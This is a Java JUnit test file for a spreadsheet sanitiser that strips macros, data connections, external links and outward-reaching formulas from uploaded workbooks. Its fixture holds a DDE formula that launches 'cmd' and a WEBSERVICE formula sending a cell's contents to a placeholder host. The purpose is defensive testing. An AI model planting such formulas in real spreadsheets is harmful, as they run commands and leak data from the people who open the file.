package vn.soxa.office.write;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.soxa.office.read.UnreadableWorkbookException;

/** What acts by itself or reaches outside does not go back to anybody; values stay. */
class ActiveContentTest {
    private static final String SHEET = "A1";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.";

    @TempDir
    Path folder = Path.of("");

    private Path sent = Path.of("");

    @BeforeEach
    void somebodySends() throws Exception {
        sent = folder.resolve("gui.xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            book.setCellFormulaValidation(false);
            XSSFSheet sheet = book.createSheet(SHEET);
            formula(sheet, 0, "[1]Trang!A1*2", "mười");
            formula(sheet, 1, "HYPERLINK(\"http://xau.example/\",\"bấm\")", "bấm");
            formula(sheet, 2, "HYPERLINK(\"#A1!A1\",\"về\")", "về");
            formula(sheet, 3, "WEBSERVICE(\"http://xau.example/\"&A1)", "lấy về");
            formula(sheet, 4, "cmd|'/c calc'!A0", "dde");
            formula(sheet, 5, "SUM(B1:B9)", "0");
            var named = book.createName();
            named.setNameName("ngoai");
            named.setRefersToFormula("A1!$A$1");
            book.setWorkbookType(XSSFWorkbookType.XLSM);
            part(book, "/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "vbaProject", "macro");
            part(book, "/xl/connections.xml", SHEETS + "connections+xml", "connections", connections());
            PackagePart outside = part(
                    book,
                    "/xl/externalLinks/externalLink1.xml",
                    SHEETS + "externalLink+xml",
                    "externalLink",
                    outside());
            outside.addExternalRelationship("file:///C:/xau.xlsx", OFFICE + "externalLinkPath");
            try (OutputStream out = Files.newOutputStream(sent)) {
                book.write(out);
            }
        }
    }

    @Test
    void parts_that_act_are_gone() throws Exception {
        PackageParts parts = new PackageParts(returned());
        assertThat(parts.names())
                .noneMatch(name -> name.matches(".*(vbaProject|connections|externalLink).*"))
                .contains("xl/workbook.xml");
        assertThat(parts.withoutContentType()).isEmpty();
        assertThat(parts.brokenRelationships()).isEmpty();
        assertThat(new String(Files.readAllBytes(returned()), StandardCharsets.ISO_8859_1))
                .doesNotContain("macroEnabled");
    }

    @Test
    void formulas_that_reach_out_keep_their_value_and_others_stay() throws Exception {
        try (XSSFWorkbook book = new XSSFWorkbook(returned().toString())) {
            assertThat(book.getSheetName(0)).isEqualTo("Cần sửa, đã bỏ");
            List<String> cells = java.util.stream.IntStream.range(0, 6)
                    .mapToObj(row -> book.getSheet(SHEET).getRow(row).getCell(0))
                    .map(cell -> cell.getCellType() + " " + cell)
                    .toList();
            assertThat(cells)
                    .containsExactly(
                            "STRING mười",
                            "STRING bấm",
                            "FORMULA HYPERLINK(\"#A1!A1\",\"về\")",
                            "STRING lấy về",
                            "STRING dde",
                            "FORMULA SUM(B1:B9)");
        }
    }

    @Test
    void a_package_that_holds_a_part_twice_is_not_opened() throws Exception {
        Path twice = folder.resolve("hai-lan.xlsx");
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(sent));
                ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(twice))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                in.transferTo(zip);
            }
            zip.putNextEntry(new ZipEntry("XL/workbook.xml"));
        }
        assertThatThrownBy(() -> Returned.annotated(twice, folder.resolve("tra"), SHEET, "B2", null))
                .isInstanceOf(UnreadableWorkbookException.class)
                .hasMessageContaining("XL/workbook.xml");
    }

    private Path returned() throws Exception {
        return Returned.annotated(sent, folder.resolve("tra"), SHEET, "B2", null);
    }

    private static void formula(XSSFSheet sheet, int row, String formula, String value) {
        var cell = sheet.createRow(row).createCell(0);
        cell.setCellFormula(formula);
        cell.setCellValue(value);
    }

    private static PackagePart part(XSSFWorkbook book, String name, String type, String link, String content)
            throws Exception {
        PackagePart part = book.getPackage().createPart(PackagingURIHelper.createPartName(name), type);
        try (OutputStream out = part.getOutputStream()) {
            out.write(content.getBytes(StandardCharsets.UTF_8));
        }
        book.getPackagePart().addRelationship(part.getPartName(), TargetMode.INTERNAL, OFFICE + link);
        return part;
    }

    private static String connections() {
        return "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>";
    }

    private static String outside() {
        return "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>";
    }
}
